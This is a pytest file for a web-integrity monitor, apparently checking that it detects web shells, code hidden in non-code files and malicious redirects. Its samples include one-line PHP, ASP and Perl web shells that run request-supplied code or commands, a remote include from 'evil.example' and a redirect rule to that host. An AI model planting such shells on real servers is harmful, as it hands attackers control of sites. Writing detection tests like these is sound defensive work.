"""Code for the server: what is new in it. All samples are harmless pieces written for this."""

import pytest

from sentinel.core.assets import compare_asset
from sentinel.core.code_change import changed_code, hidden_code, new_code
from sentinel.core.finding import Strength
from sentinel.core.newcomers import examine_new
from sentinel.core.verdict import Verdict
from sentinel.core.web_shells import TRAITS, traits_of

SHELLS: dict[str, str] = {
    "runs what a request sends": "<?php @eval($_POST['c']); ?>",
    "runs a command that a request sends": "<?php echo `ls {$_GET['d']}`;",
    "calls a function that a request names": "<?php $_GET['f']($_GET['a']);",
    "runs text that is decoded first": "<?php eval(gzinflate(base64_decode($x)));",
    "decodes several times over": "<?php $a = str_rot13(base64_decode('abcd'));",
    "runs the result of a replacement (preg_replace /e)": "<?php preg_replace('/.*/e', $a, '');",
    "makes functions of text": "<?php $f = create_function('', $code);",
    "writes what a request sends into a file": "<?php file_put_contents('a', $_POST['b']);",
    "takes uploads of any kind": "<?php move_uploaded_file($_FILES['f']['tmp_name'], 'x');",
    "loads code from another host": "<?php include 'http://evil.example/a.txt';",
    "spells function names in pieces": "<?php $f = 'as'.'se'.'r'.'t'.'x'; $f($a);",
    "carries a long encoded text": f"<?php $a = '{'QUJD' * 300}';",
    "hides its flow (goto, machine-made names)": "<?php " + "goto abcdef; $a = 1; " * 9,
    "names itself a shell": "<?php /* mini shell */ ?>",
    "runs what a request sends (ASP, JSP)": '<%eval request("c")%>',
    "runs what a request sends (CGI)": "#!/usr/bin/perl\nsystem(param('c'));",
}
HONEST = [
    "<?php require_once __DIR__ . '/wp-load.php'; $page = get_page($_GET['p']); echo esc($page);",
    "<?php $name = htmlspecialchars($_POST['name']); mail($to, 'Contact', $name);",
    "<?php $data = base64_decode($row['picture']); header('Content-Type: image/png'); echo $data;",
    "<?php preg_replace('/[^a-z]/i', '', $name); usort($rows, 'by_date');",
    "<?php if (isset($_SESSION['user'])) { include 'templates/menu.php'; }",
    "<?php define('AUTH_KEY', 'x'); $eval = evaluate($_GET_LATER); ",
]


def test_every_trait_has_a_sample() -> None:
    assert [name for name, _ in TRAITS] == list(SHELLS)


@pytest.mark.parametrize("name", SHELLS)
def test_traits_of_web_shells(name: str) -> None:
    assert name in traits_of(SHELLS[name])


@pytest.mark.parametrize("text", HONEST)
def test_ordinary_code_has_none(text: str) -> None:
    assert traits_of(text) == []


def test_a_changed_file_says_which_lines_are_new() -> None:
    before, after = b"<?php\nshow();\n", b"<?php\nshow();\n@eval($_POST['c']);\n"
    first, second = changed_code("index.php", before, after)
    assert (first.code, second.code) == ("server-code-changed", "web-shell")
    assert "1 new line" in first.text
    assert first.quote == "@eval($_POST['c']);"


def test_passwords_are_not_quoted() -> None:
    before, after = b"<?php\n", b"<?php\n$db_password = 'hunter2';\n"
    (found,) = changed_code("config.php", before, after)
    assert "hunter2" not in found.quote + found.text
    (found,) = changed_code(".env", b"A=1\n", b"A=1\nNAME=hunter2\n")
    assert "hunter2" not in found.quote + found.text


def test_what_the_approved_code_does_is_no_news() -> None:
    shell = SHELLS["takes uploads of any kind"]
    assert not list(new_code("up.php", shell, shell + "// remark"))


@pytest.mark.parametrize(
    ("body", "strength"),
    [
        (b"notes\n<?php show(); ?>", Strength.WEAK),
        (b"notes\n<?php eval($_POST['c']); ?>", Strength.STRONG),
    ],
)
def test_code_in_a_file_whose_name_says_otherwise(body: bytes, strength: Strength) -> None:
    (found,) = hidden_code(b"notes", body)
    assert (found.code, found.strength) == ("hidden-server-code", strength)
    assert not list(hidden_code(body, body))


def test_new_and_changed_files_are_told_what_they_do() -> None:
    shell = b"<?php system($_GET['c']);"
    new = examine_new("up/x.php", "", shell, on_disk=True)
    assert {one.code for one in new.signals} == {"new-executable-file", "web-shell"}
    rules = b"RewriteRule ^(.*)$ https://evil.example/ [R]"
    changed = compare_asset("", ".htaccess", b"Options -Indexes", "", rules)
    assert {one.code for one in changed.signals} == {"server-code-changed", "rule-leads-away"}
    text = compare_asset("", "notes.txt", b"notes", "", b"notes " + shell)
    assert text.verdict is Verdict.DEFACED
